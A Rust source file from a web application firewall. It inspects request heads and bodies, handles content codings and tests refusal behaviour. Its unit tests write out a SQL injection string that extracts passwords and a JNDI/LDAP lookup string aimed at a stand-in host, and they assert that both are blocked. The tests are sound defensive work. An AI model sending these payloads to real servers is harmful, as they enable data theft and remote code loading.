//! Second stage: what does the request say? The head at once, the body as it comes. Only here a [`Cleared`] is made, so
//! that nothing which was not inspected can be forwarded.

use std::sync::Arc;

use waf_detection::body::BodyKind;
use waf_detection::budget::Budget;
use waf_detection::inspection::{Inspection, OnHit};
use waf_detection::request::Head;
use waf_shared::catalog::Leaf;

use super::rejection::Rejection;
use crate::inspection_pool::InspectionPool;
use crate::message::Client;

use super::admit::Admitted;
use super::body::{self, Body, Described, body_refusal};
use super::context::RequestContext;
use super::contract::Contracted;
use super::findings::Findings;
use super::response_inspection;
use crate::coding::{self, Coding, UnknownCoding};
use crate::head::OutgoingHead;
use crate::metrics::{thread_cpu_time, watch};
use crate::refusal::Refusal;

/// A request whose head was inspected.
#[derive(Debug)]
pub(crate) struct Inspected {
    contracted: Contracted,
    inspection: Box<Inspection>,
}

/// A request that may be forwarded: its head and what is held of its body were inspected; the rest is read through
/// [`Body::next`], which inspects it and keeps the limits.
#[derive(Debug)]
pub(crate) struct Cleared {
    /// The head, with its contract.
    pub(crate) contracted: Contracted,
    /// Its body.
    pub(crate) body: Body,
    /// Parameters in the body, for rules that compare a response with them.
    pub(super) parameters: Vec<u8>,
    _proof: (),
}

/// Inspects path, query and header fields.
pub(super) fn head(
    contracted: Contracted,
    inspections: &InspectionPool,
    context: &RequestContext,
    findings: &mut Findings,
) -> Result<Inspected, Rejection> {
    findings.begin_rules();
    let admitted = &contracted.admitted;
    let mut inspection = begin(inspections, context);
    let raw = admitted.head.target();
    inspection.head(&Head {
        method: admitted.head.method(),
        version: admitted.head.version.into(),
        path: admitted.target.path(raw),
        query: admitted.target.behind_path(raw),
        fields: admitted.head.fields.iter(),
        carries_body: admitted.carries_body(),
    });
    match body::refusal(&inspection, context.settings().mode) {
        None => Ok(Inspected { contracted, inspection }),
        Some(refusal) => {
            findings.measure(&inspection);
            Err(Rejection::Found(refusal, inspection))
        }
    }
}

/// An inspection by the settings of the route, with its exceptions.
pub(super) fn begin(inspections: &InspectionPool, context: &RequestContext) -> Box<Inspection> {
    let settings = context.settings();
    let bounds = context.active_plan.bounds(context.route()).clone();
    let on_hit = if context.is_blocking() { OnHit::Stop } else { OnHit::GoOn };
    let budget =
        Budget { limit: settings.inspection.evaluation_timeout.duration(), clock: thread_cpu_time, watch };
    let mut inspection = match inspections.take() {
        Some(mut inspection) => {
            inspection.reset(settings.leaves, bounds, on_hit, budget);
            inspection
        }
        None => {
            let engine = Arc::clone(context.active_plan.engine());
            Box::new(Inspection::new(engine, settings.leaves, bounds, on_hit, budget))
        }
    };
    inspection.except(context.active_plan.exceptions(context.route()));
    inspection
}

/// Reads and inspects the part of the body that must be cleared before anything is forwarded.
pub(super) async fn body(
    inspected: Inspected,
    client: &mut Client<'_>,
    context: &RequestContext,
    findings: &mut Findings,
) -> Result<Cleared, Rejection> {
    let (contracted, mut body) = begin_body(inspected, context, findings)?;
    let admitted = &contracted.admitted;
    if admitted.carries_body()
        && admitted.head.fields.first("expect").is_some()
        && !client.reader.has_buffered()
    {
        client
            .writer
            .interim(&OutgoingHead::response(100, b"Continue"))
            .await
            .map_err(|_| Rejection::Gone)?;
    }
    let outcome = body.clear(&mut client.reader).await;
    if let Err(fault) = outcome {
        body.report(context, findings);
        return Err(match body_refusal(&fault, findings) {
            Rejection::Refused(refusal) => Rejection::Found(refusal, body.into_inspection()),
            Rejection::Gone => Rejection::Left(body.into_inspection()),
            other => other,
        });
    }
    let parameters = response_inspection::parameters(&contracted.admitted, &body, context.settings());
    Ok(Cleared { contracted, body, parameters, _proof: () })
}

/// The body of which nothing was read yet.
pub(super) fn begin_body(
    inspected: Inspected,
    context: &RequestContext,
    findings: &mut Findings,
) -> Result<(Contracted, Body), Rejection> {
    let Inspected { contracted, mut inspection } = inspected;
    let (mut kind, mut codings) = (BodyKind::None, Vec::new());
    if contracted.admitted.carries_body() {
        (kind, codings) = kind_and_codings(&contracted.admitted, &mut inspection, context, findings)?;
    }
    let described = Described { contracted: &contracted, kind, codings: &codings };
    let body = Body::new(&described, inspection, context);
    Ok((contracted, body))
}

/// The kind of a body and its content codings, with which the inspection of it begins.
fn kind_and_codings(
    admitted: &Admitted,
    inspection: &mut Inspection,
    context: &RequestContext,
    findings: &mut Findings,
) -> Result<(BodyKind, Vec<Coding>), Rejection> {
    let media_type = admitted.media_type();
    let kind = inspection.body(media_type);
    match coding::codings(admitted.head.fields.all("content-encoding")) {
        Ok(codings) => {
            if kind != BodyKind::None {
                inspection.encoded_body(media_type, codings.len());
            }
            Ok((kind, codings))
        }
        // Of such a body only what can be read as text without decoding is judged.
        Err(UnknownCoding) if matches!(kind, BodyKind::Binary | BodyKind::None) => Ok((kind, Vec::new())),
        Err(UnknownCoding) => {
            let leaf = Leaf::HttpComplianceMalformedBody;
            let reason = "the body has a content coding that cannot be taken off";
            if findings.violate(context, leaf, "HEADERS:content-encoding", reason).is_err() {
                return Err(Rejection::Refused(Refusal::blocked(415)));
            }
            // What cannot be read must not be judged as if it were the text that it hides.
            Ok((BodyKind::None, Vec::new()))
        }
    }
}

#[cfg(test)]
mod tests {
    use waf_shared::plan::Mode;

    use super::super::testing::{self, contracted, exchange, with_client};
    use super::*;

    const JSON: &str = "POST / HTTP/1.1\nHost: a\nContent-Type: application/json\nContent-Length: ";
    const CHUNKED: &str = "POST / HTTP/1.1\nHost: a\nContent-Type: text/plain\nTransfer-Encoding: chunked";

    /// Status of a refusal, or whether something was found in what may be forwarded.
    async fn inspect(lines: &str, rest: &[u8], mode: Mode) -> Result<bool, u16> {
        let mut exchange = exchange(|_, route| route.settings.mode = mode);
        let contracted = contracted(testing::head(lines), &mut exchange);
        let framing = contracted.admitted.framing;
        let pool = InspectionPool::default();
        let (context, findings) = (&exchange.context, &mut exchange.findings);
        let (cleared, ..) = with_client(rest, async |client: &mut Client<'_>| {
            client.reader.delimit(framing);
            let inspected = head(contracted, &pool, context, findings)?;
            body(inspected, client, context, findings).await
        })
        .await;
        cleared.map(|cleared| cleared.body.verdict().is_some()).map_err(|rejection| rejection.status())
    }

    #[tokio::test]
    async fn attacks_are_found_in_every_part_and_refused_by_mode() {
        let json: &[u8] = br#"{"q":"1' union select password from users--"}"#;
        let path = "GET /?q=1'+union+select+password+from+users-- HTTP/1.1\nHost: a";
        let field = "GET / HTTP/1.1\nHost: a\nReferer: ${jndi:ldap://b/c}";
        let text = format!("{JSON}{}", json.len());
        for (lines, rest) in [(path, &b""[..]), (field, b""), (&text, json)] {
            assert_eq!(inspect(lines, rest, Mode::Blocking).await, Err(403), "{lines:?}");
            assert_eq!(inspect(lines, rest, Mode::DetectOnly).await, Ok(true), "{lines:?}");
        }
    }

    #[tokio::test]
    async fn benign_requests_are_cleared() {
        let text = format!("{JSON}14");
        for (lines, rest) in [
            ("GET /search?q=union+select+committee HTTP/1.1\nHost: a", &b""[..]),
            (&text, br#"{"q":"coffee"}"#),
            (CHUNKED, b"2\r\nok\r\n0\r\n\r\n"),
        ] {
            assert_eq!(inspect(lines, rest, Mode::Blocking).await, Ok(false), "{lines:?}");
        }
    }

    #[tokio::test]
    async fn bodies_that_cannot_be_forwarded_are_refused_in_every_mode() {
        for mode in [Mode::Blocking, Mode::DetectOnly] {
            for rest in
                [&b"x\r\n"[..], b"1\r\nab\r\n", b"0\r\nContent-Length: 1\r\n\r\n", b"-1\r\n", b"1 \r\n"]
            {
                assert_eq!(inspect(CHUNKED, rest, mode).await, Err(400), "{mode:?} {rest:?}");
            }
        }
    }

    #[tokio::test(start_paused = true)]
    async fn a_client_that_waits_for_it_gets_an_interim_response() {
        for (more, expected) in [("\nExpect: 100-continue", "HTTP/1.1 100 Continue\r\n\r\n"), ("", "")] {
            let mut exchange = exchange(|_, _| {});
            let contracted = contracted(testing::head(&format!("{JSON}2{more}")), &mut exchange);
            let (context, findings) = (&exchange.context, &mut exchange.findings);
            let inspected = head(contracted, &InspectionPool::default(), context, findings);
            let inspected = inspected.expect("the head is benign");
            let ((), answer, _) = with_client(b"", async |client: &mut Client<'_>| {
                client.reader.delimit(crate::http1::framing::Framing::Length(2));
                let cleared = body(inspected, client, context, findings).await;
                assert_eq!(cleared.map_err(|rejection| rejection.status()).err(), Some(408));
            })
            .await;
            assert_eq!(answer, expected, "{more:?}");
        }
    }
}
